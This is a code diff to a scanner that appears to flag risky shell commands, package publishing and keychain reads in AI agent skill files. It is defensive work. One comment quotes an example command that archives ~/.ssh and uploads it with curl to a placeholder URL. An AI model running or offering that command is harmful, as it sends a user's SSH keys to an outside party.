@@ -18,9 +18,13 @@ _TABLE = re.compile(r"^\s*\|.*\|\s*$")
 _QUOTE = re.compile(r"^\s*>")
 _HEADING = re.compile(r"^\s{0,3}#{1,6}\s")
 #: `` !`cmd` `` lines, and command lines written as inline code with a pipe, `$(...)`, `&&` or a
-#: redirect after a word (`` `tar czf - ~/.ssh | curl -T - URL` ``, not `<vault>/CLAUDE.md`): both
-#: are read as shell, like a fenced block
-_BANG = re.compile(r"!`([^`\n]+)`|`([^`\n]*(?:\||\$\(|&&|\s\d?>)[^`\n]*)`")
+#: redirect after a word (`` `tar czf - ~/.ssh | curl -T - URL` ``, not `<vault>/CLAUDE.md`), or that
+#: publish a package (`` `npm publish ./pkg` ``: what other files put into it goes along): all are
+#: read as shell, like a fenced block
+_BANG = re.compile(
+    r"!`([^`\n]+)`|`([^`\n]*(?:\||\$\(|&&|\s\d?>)[^`\n]*"
+    r"|(?:npm|pnpm|yarn|twine|gem|cargo|poetry|flit|uv)\s+(?:publish|upload|push)\b[^`\n]*)`"
+)
 INLINE_CODE = re.compile(r"`[^`\n]*`")
 #: `[//]: # (text)` and `[comment]: <> (text)`: Markdown link definitions used as hidden comments.
 _MD_COMMENT = re.compile(r"^\s{0,3}\[(?://|comment|_)\]:\s*(?:#|<>)")
@@ -66,9 +70,10 @@ LIST_ITEM = re.compile(r"^\s*(?:[-*+]|\d+[.)])\s+")
 #: A step the model shows the user rather than runs ("tell the user how to load it", "the user adds
 #: it with crontab -e", "do not run that yourself").
 _FOR_USER = re.compile(
-    r"\b(?:tell|show|remind|explain\s+to)\s+the\s+user\b|\bthe\s+user\s+(?:adds?|runs?|can|may|loads?|"
+    # "tell them the `launchctl` command", "show the user how to", not "then tell the user it is done"
+    r"\b(?:tell|show|remind|explain\s+to)\s+(?:the\s+user|them)\s+(?:how|to|the|which|what|where|`)|\bthe\s+user\s+(?:adds?|runs?|can|may|loads?|"
     r"installs?|pastes?|copies|enables?|reviews?)\b|\b(?:do\s+not|don'?t|never)\s+run\s+(?:this|that|it|them)"
-    r"\s+yourself\b|\bfor\s+the\s+user\s+to\s+(?:run|review|add|install|load)\b"
+    r"\s+yourself\b|\bfor\s+(?:the\s+user|them)\s+to\s+(?:run|review|add|install|load|paste)\b"
     # "show it to the user; they load it themselves", "never load it for them"
     r"|\b(?:show|give|hand|print)\s+(?:it|this|that|them|the\s+\w+)\s+to\s+the\s+user\b"
     # "give the user the commands to run" (not "give the user a summary")
@@ -264,8 +269,12 @@ class FileContext:
             return 2, "tokens as a currency, not credentials"
         if category in SPEECH and _CHECKED_SAMPLE.search(text[:start]):
             return 2, "a sample handed to a checker, not addressed to the model"
-        if rule_id == "SY-CRED-006" and (m := _KEYCHAIN_READ.match(text, start)) and m[1] in self.own_secrets:
-            return 2, "a keychain item this file stores itself"
+        if (
+            rule_id == "SY-CRED-006"
+            and (m := _KEYCHAIN_READ.match(text, start))
+            and m[1].lower() in self.own_secrets
+        ):
+            return 2, "a keychain item this skill stores itself or is named after"
         if rule_id == "SY-PER-002" and _ENABLE_INSTALLED.match(text, start) and not self.unit_written:
             return 2, "a service some package installed, enabled; not one this file creates"
         if (
@@ -408,7 +417,10 @@ def build(rel: str, text: str, referenced: set[str]) -> FileContext:
     ctx = FileContext(
         rel, md, reference, instructs=skill_md or (rel in referenced and not reference), own_name=own
     )
-    stored = {a or b for a, b in _KEYCHAIN_STORE.findall(text)}
+    # the skill's own items: those it stores, and one named for the skill (`-s restic` in a restic
+    # backup skill), unless the name is another program's (a browser's "Safe Storage")
+    stored = {(a or b).lower() for a, b in _KEYCHAIN_STORE.findall(text)}
+    stored |= {w for w in re.split(r"[^a-z0-9]+", own.lower()) if len(w) >= 4}
     ctx.own_secrets = frozenset(n for n in stored if not _FOREIGN_ITEM.search(n))
     ctx.unit_written = bool(_UNIT_WRITTEN.search(text))
     if not md:
